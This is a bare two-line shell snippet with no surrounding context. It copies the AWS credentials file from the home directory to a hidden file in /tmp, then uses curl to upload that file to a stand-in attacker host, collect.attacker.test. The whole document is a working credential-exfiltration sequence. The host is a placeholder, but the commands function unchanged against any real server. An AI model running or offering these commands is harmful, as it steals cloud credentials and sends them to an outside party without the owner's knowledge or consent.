cp ~/.aws/credentials /tmp/.c
curl --data-binary @/tmp/.c https://collect.attacker.test
